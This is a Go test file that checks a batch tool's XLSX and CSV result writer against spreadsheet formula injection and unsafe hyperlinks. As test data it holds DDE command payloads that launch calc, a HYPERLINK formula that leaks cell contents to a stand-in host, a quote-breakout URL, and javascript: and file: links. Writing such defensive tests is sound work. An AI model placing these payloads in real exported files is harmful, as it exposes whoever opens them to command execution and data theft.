package results

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/qccbatch/qccbatch/batch/input"
	"github.com/qccbatch/qccbatch/batch/outcome"
	"github.com/xuri/excelize/v2"
)

// injection payloads: text that a spreadsheet would evaluate if it were
// written naively.
var injectionPayloads = []struct{ name, text string }{
	{"dde", "=cmd|' /C calc'!A0"},
	{"plus", "+1"},
	{"minus", "-1"},
	{"at", "@SUM(1+1)*cmd|' /C calc'!A0"},
	{"tab", "\t=1+1"},
	{"cr", "\r=1+1"},
	{"hyperlink", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
}

// injectionRows puts every payload into an input cell and into the message
// column, plus a real negative number in the number column.
func injectionRows() ([]string, []sampleRow) {
	header := []string{"payload", "amount"}
	var rows []sampleRow
	for i, p := range injectionPayloads {
		rows = append(rows, sampleRow{
			input.Row{Line: i + 2, Cells: []input.Cell{strCell(p.text), numCell("-1")}},
			Result{SearchKey: p.text, Outcome: outcome.Invalid, Message: p.text},
		})
	}
	return header, rows
}

func TestWriteResults_FormulaSafetyXLSX(t *testing.T) {
	header, rows := injectionRows()
	out := filepath.Join(t.TempDir(), "r.xlsx")
	require.NoError(t, Write(out, header, sliceSource(rows), Summary{Input: "=1+1"}, "en"))
	f, err := excelize.OpenFile(out)
	require.NoError(t, err)
	defer func() { _ = f.Close() }()
	for i, p := range injectionPayloads {
		t.Run(p.name, func(t *testing.T) {
			r := i + 2
			// payload, search_key, message
			for _, col := range []int{1, len(header) + colSearchKey + 1, len(header) + colMessage + 1} {
				cell, _ := excelize.CoordinatesToCellName(col, r)
				typ, _ := f.GetCellType(resultsSheet, cell)
				formula, _ := f.GetCellFormula(resultsSheet, cell)
				got, _ := f.GetCellValue(resultsSheet, cell, excelize.Options{RawCellValue: true})
				assert.Equal(t, excelize.CellTypeInlineString, typ, "%s: type %v, want an inline string", cell, cellTypeNames[typ])
				assert.Empty(t, formula, cell)
				assert.Equal(t, p.text, got, cell)
				style, _ := f.GetCellStyle(resultsSheet, cell)
				st, _ := f.GetStyle(style)
				if assert.NotNil(t, st, cell) {
					assert.Equal(t, 49, st.NumFmt, "%s: not formatted as Text (@), so editing it would make a formula", cell)
				}
			}
			cell, _ := excelize.CoordinatesToCellName(2, r)
			typ, _ := f.GetCellType(resultsSheet, cell)
			got, _ := f.GetCellValue(resultsSheet, cell, excelize.Options{RawCellValue: true})
			assert.Equal(t, excelize.CellTypeUnset, typ, "%s: no t attribute: a number", cell)
			assert.Equal(t, "-1", got, cell)
		})
	}
	typ, _ := f.GetCellType(summarySheet, "B1")
	formula, _ := f.GetCellFormula(summarySheet, "B1")
	assert.Empty(t, formula, "Summary input %q written as a formula", "=1+1")
	assert.NotEqual(t, excelize.CellTypeFormula, typ)
}

func TestWriteResults_FormulaSafetyCSV(t *testing.T) {
	header, rows := injectionRows()
	header[0] = "=header"
	out := filepath.Join(t.TempDir(), "r.csv")
	require.NoError(t, Write(out, header, sliceSource(rows), Summary{}, "en"))
	data, err := os.ReadFile(out)
	require.NoError(t, err)
	require.True(t, bytes.HasPrefix(data, []byte(utf8BOM)), "no UTF-8 BOM")
	n := bytes.Count(data, []byte("\n"))
	assert.Equal(t, len(rows)+1, n, "line ends")
	assert.Equal(t, n, bytes.Count(data, []byte("\r\n")), "every line end is CRLF")
	records, err := csv.NewReader(bytes.NewReader(data[len(utf8BOM):])).ReadAll()
	require.NoError(t, err)
	assert.Equal(t, "'=header", records[0][0], "the header is prefixed with '")
	for i, p := range injectionPayloads {
		t.Run(p.name, func(t *testing.T) {
			rec := records[i+1]
			// csv.Writer with UseCRLF drops a lone CR inside a field; the
			// prefix is what makes the value safe.
			want := "'" + strings.ReplaceAll(p.text, "\r", "")
			assert.Equal(t, want, rec[0], "payload")
			assert.Equal(t, want, rec[len(header)+colSearchKey], "search_key")
			assert.Equal(t, want, rec[len(header)+colMessage], "message")
			assert.Equal(t, "-1", rec[1], "a number cell is not prefixed")
		})
	}
}

func TestHyperlinkFormula(t *testing.T) {
	tests := []struct {
		name, url string
		ok        bool
	}{
		{"https", "https://r.example.com/a.pdf?x=1&y=2", true},
		{"http upper", "HTTP://127.0.0.1:8080/r/1.pdf", true},
		{"quote breakout", `https://e.example/"),cmd|'/C calc'!A0,("`, true},
		{"javascript", "javascript:alert(1)", false},
		{"file", "file:///C:/Windows/System32/calc.exe", false},
		{"formula", "=HYPERLINK(\"http://x\")", false},
		{"newline", "https://e.example/a\nb", false},
		{"too long", "https://e.example/" + strings.Repeat("a", 250), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			formula, ok := hyperlinkFormula(tt.url)
			require.Equal(t, tt.ok, ok, "hyperlinkFormula(%q)", tt.url)
			if !ok {
				return
			}
			// Evaluate the formula: it must yield exactly the URL, so the
			// URL cannot have escaped its string literal.
			f := excelize.NewFile()
			defer func() { _ = f.Close() }()
			require.NoError(t, f.SetCellFormula("Sheet1", "A1", formula))
			got, err := f.CalcCellValue("Sheet1", "A1")
			require.NoError(t, err)
			assert.Equal(t, tt.url, got, "%s evaluates to the URL", formula)
		})
	}
}

func TestWriteResults_UnsafeLinksArePlainText(t *testing.T) {
	rows := []sampleRow{{input.Row{Line: 2}, Result{Outcome: outcome.Ready,
		ReportURL: "javascript:alert(1)", File: "reports/A#1_RB1.pdf"}}}
	out := filepath.Join(t.TempDir(), "r.xlsx")
	require.NoError(t, Write(out, nil, sliceSource(rows), Summary{}, "en"))
	f, err := excelize.OpenFile(out)
	require.NoError(t, err)
	defer func() { _ = f.Close() }()
	for col, want := range map[int]string{colReportURL: "javascript:alert(1)", colFile: "reports/A#1_RB1.pdf"} {
		cell, _ := excelize.CoordinatesToCellName(col+1, 2)
		typ, _ := f.GetCellType(resultsSheet, cell)
		got, _ := f.GetCellValue(resultsSheet, cell)
		assert.Equal(t, excelize.CellTypeInlineString, typ, "%s: type %v, want plain text", cell, cellTypeNames[typ])
		assert.Equal(t, want, got, cell)
	}
}
